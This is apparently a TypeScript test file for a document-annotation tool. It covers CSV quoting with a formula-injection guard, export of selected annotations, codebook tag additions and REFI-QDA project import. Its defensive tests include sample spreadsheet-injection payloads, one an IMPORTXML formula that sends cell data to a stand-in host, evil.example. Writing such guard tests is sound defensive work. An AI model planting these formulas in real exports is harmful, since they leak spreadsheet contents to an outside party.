/**
 * Issue 14, finishing: the CSV formula-injection guard (shared with the compare matrix), export
 * of a selection of annotations, the tags an import adds to the codebook, and the streaming
 * project.qde reader agreeing with the element tree on what the spec allows.
 */
import * as assert from 'node:assert';
import { strToU8, zipSync } from 'fflate';
import { DEFAULT_CODEBOOK } from '../../src/core/annotations/codebook';
import { parseConfig } from '../../src/core/config/config';
import { csvCell, undefuseCsvCell } from '../../src/core/csv';
import { matrixCsv } from '../../src/core/compare/format';
import { exportAs, ExportDocument, readImport, renderCsv, selectAnnotations } from '../../src/core/interchange';
import { addImportedTags } from '../../src/core/interchange/codebook-additions';
import { parseCsv } from '../../src/core/interchange/csv';
import { guidOf } from '../../src/core/interchange/guid';
import { annotate, SPECS, TEXT } from './interchange-roundtrip.test';

describe('CSV cells: RFC 4180 quoting and the formula-injection guard', () => {
  const cases: [string, string, string][] = [
    ['plain text', 'Integrated care boards', 'Integrated care boards'],
    ['empty', '', ''],
    ['a comma', 'ICBs, trusts', '"ICBs, trusts"'],
    ['a double quote', 'the "integrator"', '"the ""integrator"""'],
    ['a line end', 'two\nlines', '"two\nlines"'],
    ['= (a formula)', '=HYPERLINK("http://x","y")', '"\'=HYPERLINK(""http://x"",""y"")"'],
    ['+', '+44 20 7946 0000', '"\'+44 20 7946 0000"'],
    ['-', '-2+3', '"\'-2+3"'],
    ['@', '@SUM(A1:A2)', '"\'@SUM(A1:A2)"'],
    ['a leading tab', '\t=1+1', '"\'\t=1+1"'],
    ['a leading carriage return', '\r=1+1', '"\'\r=1+1"'],
    ['= later in the cell (harmless)', 'a=b', 'a=b'],
    ['a leading apostrophe (left alone)', "'quoted", "'quoted"],
  ];
  for (const [what, value, written] of cases) {
    it(`${what}: ${JSON.stringify(value)} -> ${JSON.stringify(written)}`, () => {
      assert.strictEqual(csvCell(value), written);
      const [[cell]] = parseCsv(`${written}\r\n`).length ? parseCsv(`${written}\r\n`) : [['']];
      assert.strictEqual(undefuseCsvCell(cell ?? ''), value, 'parses back to the value, less the guard');
    });
  }

  it('the annotation export guards the note, quote and every other cell', () => {
    const sidecar = annotate(TEXT, SPECS.slice(0, 2));
    sidecar.annotations[0].note = '=IMPORTXML("http://evil.example/?leak="&A1, "//a")';
    sidecar.annotations[1].author = '@admin';
    const csv = renderCsv([{ path: 'plan.md', text: TEXT, sidecar }]);
    const rows = parseCsv(csv);
    assert.strictEqual(rows[1][4], `'${sidecar.annotations[0].note}`);
    assert.strictEqual(rows[2][7], "'@admin");
    for (const cell of rows.flat()) assert.ok(!/^[=+\-@\t\r]/.test(cell), `a cell starts with a formula character: ${JSON.stringify(cell)}`);
  });

  it('the compare matrix uses the same guard', () => {
    const csv = matrixCsv({ documents: [{ path: '=cmd.md', date: '2026-01-01', words: 10 }], rows: [{ id: 'x', label: '+label', kind: 'party', counts: [1] }] } as never);
    assert.ok(csv.includes('"\'=cmd.md"') && csv.includes('"\'+label"'), csv);
  });
});

describe('export of a selection of annotations', () => {
  const docs = (): ExportDocument[] => [
    { path: 'a/plan.md', text: TEXT, sidecar: annotate(TEXT, SPECS) },
    { path: 'b/other.md', text: TEXT, sidecar: annotate(TEXT, SPECS.slice(0, 2).map((s) => ({ ...s, id: `${s.id}x`, tag: 'funding/recurrent' }))) },
  ];
  const ids = (list: ExportDocument[]) => list.map((d) => `${d.path}: ${d.sidecar.annotations.map((a) => a.id).join(' ')}`);
  const cases: [string, Parameters<typeof selectAnnotations>[1], string[]][] = [
    ['nothing selected: everything', {}, ['a/plan.md: a1 b2 c3 d4 e5 f6', 'b/other.md: a1x b2x']],
    ['by id: only those, documents left empty dropped', { ids: new Set(['b2', 'e5']) }, ['a/plan.md: b2 e5']],
    ['ids across documents', { ids: new Set(['a1', 'b2x']) }, ['a/plan.md: a1', 'b/other.md: b2x']],
    ['by tag', { tags: new Set(['funding']) }, ['a/plan.md: e5 f6', 'b/other.md: a1x b2x']],
    ['a nested tag only', { tags: new Set(['funding/recurrent']) }, ['b/other.md: a1x b2x']],
    ['ids and tag: both must hold', { ids: new Set(['a1', 'e5']), tags: new Set(['funding']) }, ['a/plan.md: e5']],
    ['an unknown id: nothing', { ids: new Set(['zz']) }, []],
  ];
  for (const [what, selection, expected] of cases) {
    it(what, () => assert.deepStrictEqual(ids(selectAnnotations(docs(), selection)), expected));
  }

  it('a selection exports and imports like any other: only the selected annotations in the .qdpx', () => {
    const selected = selectAnnotations(docs(), { ids: new Set(['b2', 'a1x']) });
    const bundle = readImport('sel.qdpx', exportAs('qdpx', { name: 'Selection', documents: selected, codebook: DEFAULT_CODEBOOK }).bytes);
    assert.deepStrictEqual(bundle.documents.map((d) => [d.source, d.annotations.map((a) => a.quote)]), [
      ['a/plan.md', [SPECS[1].quote]], ['b/other.md', [SPECS[0].quote]],
    ]);
  });
});

describe('tags an import adds to the codebook (.policy-lens.yaml)', () => {
  const tags = [
    { id: 'risk/delivery', label: 'Delivery risk', color: '#AA3300' },
    { id: 'question-2', label: 'question-2' },
    { id: 'odd', label: 'Odd', color: 'red' },
  ];
  const cases: [string, string][] = [
    ['no file yet', ''],
    ['a file without a codebook', 'expectedParties:\n  - gp\n'],
    ['a file with a codebook, CRLF', 'codebook:\r\n  - id: omission\r\n    label: Omission\r\n    color: "#cc0000"\r\n'],
  ];
  for (const [what, before] of cases) {
    it(`${what}: every tag added, colours kept when #rrggbb, others get a free one; the rest of the file as it was`, () => {
      const result = addImportedTags(before, tags, DEFAULT_CODEBOOK);
      assert.deepStrictEqual(result.added, ['risk/delivery', 'question-2', 'odd']);
      assert.deepStrictEqual(result.failed, []);
      assert.ok(result.text.startsWith(before.replace(/\r?\n$/, '')), 'existing text kept');
      const codebook = parseConfig(result.text).config.codebook ?? [];
      const byId = new Map(codebook.map((t) => [t.id, t]));
      assert.strictEqual(byId.get('risk/delivery')?.color, '#aa3300');
      assert.strictEqual(byId.get('risk/delivery')?.label, 'Delivery risk');
      assert.match(byId.get('odd')?.color ?? '', /^#[0-9a-f]{6}$/);
      assert.notStrictEqual(byId.get('odd')?.color, byId.get('question-2')?.color, 'two new tags, two colours');
    });
  }

  it('a config that does not parse: nothing added, each tag reported', () => {
    const result = addImportedTags('codebook: [\n', tags.slice(0, 1), DEFAULT_CODEBOOK);
    assert.strictEqual(result.text, 'codebook: [\n');
    assert.deepStrictEqual(result.added, []);
    assert.match(result.failed[0].error, /does not parse/);
  });
});

describe('project.qde read in one streaming pass', () => {
  const g = (n: number) => `0000000${n}-1111-4222-8333-444455556666`;
  const project = (body: string) => zipSync({
    'project.qde': strToU8(`<?xml version="1.0"?>\n<qda:Project xmlns:qda="urn:QDA-XML:project:1.0" name="p">${body}</qda:Project>`),
    'sources/s.txt': strToU8('hello brave new world'),
  });
  it('prefixed names, codes nested, CDATA notes, markup inside a Description, a Coding with two CodeRefs, whole-source codings', () => {
    const bundle = readImport('p.qdpx', project(`
      <qda:Users><qda:User guid="${g(9)}" name="Ana"/></qda:Users>
      <qda:CodeBook><qda:Codes><qda:Code guid="${g(1)}" name="Risk" isCodable="false"><qda:Code guid="${g(2)}" name="Delivery" color="#a30"><qda:Description>Late &amp; over</qda:Description></qda:Code></qda:Code></qda:Codes></qda:CodeBook>
      <qda:Sources><qda:TextSource guid="${guidOf.document('s.md')}" name="s.md" plainTextPath="internal://s.txt">
        <qda:Coding guid="${g(3)}"><qda:CodeRef targetGUID="${g(2)}"/></qda:Coding>
        <qda:PlainTextSelection guid="${g(4)}" name="brave new" startPosition="6" endPosition="15" creatingUser="${g(9)}">
          <qda:Description>Say <b>why</b> here</qda:Description>
          <qda:Coding guid="${g(5)}"><qda:CodeRef targetGUID="${g(2)}"/><qda:CodeRef targetGUID="${g(1)}"/></qda:Coding>
          <qda:NoteRef targetGUID="${g(6)}"/>
        </qda:PlainTextSelection>
      </qda:TextSource></qda:Sources>
      <qda:Notes><qda:Note guid="${g(6)}"><qda:PlainTextContent><![CDATA[A <note> & more]]></qda:PlainTextContent></qda:Note></qda:Notes>`));
    assert.deepStrictEqual(bundle.tags, [{ id: 'risk/delivery', label: 'Delivery', guid: g(2), color: '#aa3300', description: 'Late & over' }]);
    assert.deepStrictEqual(bundle.notices, ['s.md: codings of the whole source are not imported (Policy Lens annotates passages)']);
    const [a] = bundle.documents[0].annotations;
    assert.deepStrictEqual([bundle.documents.length, bundle.documents[0].annotations.length], [1, 1], 'the first CodeRef of a Coding counts');
    assert.deepStrictEqual([a.foreignId, a.tags, a.quote, a.author, a.note], [g(4), ['Risk/Delivery'], 'brave new', 'Ana', 'Say why here\n\nA <note> & more']);
  });

  it('the root must be a REFI-QDA Project in its namespace', () => {
    const wrong = zipSync({ 'project.qde': strToU8('<Project xmlns="urn:other"/>') });
    assert.throws(() => readImport('w.qdpx', wrong), /w\.qdpx: project\.qde: the root element is <Project>, not a REFI-QDA <Project>/);
    const empty = zipSync({ 'project.qde': strToU8('<?xml version="1.0"?>') });
    assert.throws(() => readImport('e.qdpx', empty), /e\.qdpx: project\.qde: not well-formed XML/);
  });
});
